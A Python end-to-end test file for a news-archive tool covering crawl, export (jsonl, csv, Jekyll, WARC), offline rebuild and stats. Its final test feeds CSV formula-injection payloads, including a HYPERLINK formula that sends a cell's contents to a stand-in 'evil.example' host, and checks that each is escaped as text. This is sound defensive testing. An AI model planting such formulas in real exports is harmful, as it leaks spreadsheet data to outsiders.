"""Export (jsonl, csv, jekyll, warc), WARC capture with offline rebuild, and archive stats, on a
real crawl of a loopback mirror."""
import csv
import io
import json
import re
import shutil
import subprocess
import sys

import pytest
import yaml

from helpers import run_cli

pytestmark = pytest.mark.e2e


def warcio_check(path):
    """``warcio check`` (digests verified); exit 0 and no complaint."""
    result = subprocess.run([sys.executable, "-c", "from warcio.cli import main; main()", "check", "-v", str(path)],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "digest pass" in result.stdout and "fail" not in result.stdout.replace("digest pass", "")


@pytest.fixture
def crawled(demo_mirror, tmp_path):
    out = tmp_path / "archive"
    result = run_cli("crawl", "--site", demo_mirror.url, "--output", out, server=demo_mirror)
    assert result.returncode == 0, result.stderr
    return out, demo_mirror.posts


def test_jsonl_fields_and_chinese_intact(crawled, tmp_path):
    out, posts = crawled
    target = tmp_path / "posts.jsonl"
    result = run_cli("export", "--output", out, "--format", "jsonl", "--to", target)
    assert result.returncode == 0 and "exported 36 posts" in result.stdout
    lines = target.read_text("utf-8").splitlines()
    assert len(lines) == 36
    records = [json.loads(line) for line in lines]
    assert "\\u" not in lines[0]                       # UTF-8, not escaped
    by_code = {r["infoCode"]: r for r in records}
    src = posts[1]                                     # the GB18030 page, title with € and 𠮷
    rec = by_code[src.info_code]
    assert rec["title"] == src.title
    assert rec["date"] == src.date.strftime("%Y-%m-%dT%H:%M:%S+08:00")
    assert rec["category"] == src.category and rec["tags"] == src.tag
    assert rec["share_url"] == src.share_url and rec["link_url"] == src.share_url
    assert src.paragraphs[0] in rec["body"] and "返回" not in rec["body"]
    assert set(rec) >= {"infoCode", "title", "date", "category", "tags", "body", "share_url", "source_url",
                        "first_seen", "last_seen"}
    assert [r["date"] for r in records] == sorted(r["date"] for r in records)


def test_filters_combine(crawled, tmp_path):
    out, posts = crawled
    cat = posts[0].category
    day = posts[0].date.strftime("%Y-%m-%d")
    target = tmp_path / "f.jsonl"
    assert run_cli("export", "--output", out, "--format", "jsonl", "--to", target, "--category", cat,
                   "--since", day, "--until", day).returncode == 0
    got = {json.loads(line)["infoCode"] for line in target.read_text("utf-8").splitlines()}
    assert got == {p.info_code for p in posts if p.category == cat and p.date.strftime("%Y-%m-%d") == day}
    assert 0 < len(got) < 36
    bad = run_cli("export", "--output", out, "--format", "jsonl", "--to", target, "--since", "yesterday")
    assert bad.returncode == 2 and "--since takes a date" in bad.stderr          # a usage error


def test_csv_opens_as_a_spreadsheet_would(crawled, tmp_path):
    out, posts = crawled
    target = tmp_path / "posts.csv"
    assert run_cli("export", "--output", out, "--format", "csv", "--to", target).returncode == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")             # UTF-8 with BOM
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 36
    titles = {r["title"] for r in rows}
    assert posts[0].title in titles                    # quotes, backslash, '#': intact


def test_jekyll_site_builds(crawled, tmp_path):
    out, posts = crawled
    site = tmp_path / "site"
    assert run_cli("export", "--output", out, "--format", "jekyll", "--to", site).returncode == 0
    assert (site / "_config.yml").exists() and len(list((site / "_posts").glob("*.md"))) == 36
    from newsarchive.offline.export import site_name

    cats = {site_name(p.category) for p in posts}
    assert {f.stem for f in (site / "category").glob("*.html")} == cats
    for page in (site / "category").glob("*.html"):
        yaml.safe_load(page.read_text("utf-8").split("---\n")[1])
    if not shutil.which("jekyll"):
        pytest.skip("jekyll is not installed (Debian package 'jekyll'): the real build was not run")
    build = subprocess.run(["jekyll", "build", "-q", "-s", str(site), "-d", str(site / "_site")],
                           capture_output=True, text=True, timeout=300)
    assert build.returncode == 0, build.stderr
    built = site / "_site"
    post_pages = [p for p in built.rglob("*.html") if "/20" in p.as_posix()]
    assert len(post_pages) == 36
    for cat in cats:
        listing = (built / "category" / f"{cat}.html").read_text("utf-8")
        n = len([p for p in posts if site_name(p.category) == cat])
        assert listing.count("<li>") == n
        for href in re.findall(r'<li><a href="([^"]+)"', listing):       # relative, and really there
            assert not href.startswith("/") and (built / "category" / href).resolve().is_file(), href
    for page in post_pages:      # back-links point into the site, not to the live mirror
        html_text = page.read_text("utf-8")
        links = re.findall(r'<a href="([^"]+)">返回', html_text)
        assert len(links) == 2 and all((page.parent / h).resolve().is_file() for h in links), (page, links)
    assert all(p.parent.parent.parent.parent.parent == built for p in post_pages)   # one folder a category


def test_warc_capture_check_and_offline_rebuild(crawled, tmp_path):
    out, _ = crawled
    warcs = sorted((out / "warc").glob("*.warc.gz"))
    assert warcs and not list((out / "warc").glob("*.open"))
    for w in warcs:
        warcio_check(w)
    rebuilt = tmp_path / "rebuilt"
    result = run_cli("rebuild", "--source", out, "--output", rebuilt)   # no server: no network
    assert result.returncode == 0 and "36 written" in result.stdout
    original = {p.name: p.read_bytes() for p in (out / "_posts").glob("*.md")}
    assert {p.name: p.read_bytes() for p in (rebuilt / "_posts").glob("*.md")} == original
    target = tmp_path / "export.warc.gz"
    assert run_cli("export", "--output", out, "--format", "warc", "--to", target).returncode == 0
    warcio_check(target)
    from newsarchive.store.warc import iter_captures
    roles = [c.role for c in iter_captures([target])]
    assert roles.count("post") == 36 and roles.count("share") == 35


def test_stats_after_a_crawl(crawled, demo_mirror, tmp_path):
    out, _posts = crawled
    run_cli("crawl", "--site", demo_mirror.url, "--output", out, server=demo_mirror)
    result = run_cli("stats", "--output", out, "--json")
    assert result.returncode == 0
    s = json.loads(result.stdout)
    assert s["posts"] == 36 and s["revisions"] == 0
    assert sum(c["posts"] for c in s["categories"]) == 36
    assert len(s["crawls"]) == 2 and s["crawls"][0]["new"] == 0 and s["crawls"][1]["new"] == 36
    assert s["captures"]["files"] >= 1
    table = run_cli("stats", "--output", out)
    assert table.returncode == 0 and "posts: 36" in table.stdout and "last crawls" in table.stdout
    assert run_cli("stats", "--output", tmp_path / "nothing").returncode == 1


def test_permanent_failures_are_listed(demo_mirror, tmp_path):
    out = tmp_path / "archive"
    victim = demo_mirror.posts[8]
    (demo_mirror.folder / "site" / victim.path.lstrip("/")).unlink()
    run_cli("crawl", "--site", demo_mirror.url, "--output", out, server=demo_mirror)
    s = json.loads(run_cli("stats", "--output", out, "--json").stdout)
    assert s["posts"] == 35
    assert [(f["reason"], f["permanent"]) for f in s["failures"]] == [("HTTP 404", 1)]
    assert victim.path.split("/")[-1] in s["failures"][0]["url"]


def test_python_dash_m_entry():
    assert subprocess.run([sys.executable, "-m", "newsarchive", "--version"], capture_output=True).returncode == 0


def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_text():
    from newsarchive.offline.export import _cell

    for formula in ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd", "+1", "-2", "\t=1", "\r=1"):
        assert _cell(formula) == "'" + formula
    assert _cell("央行降准") == "央行降准" and _cell("") == "" and _cell(3) == 3
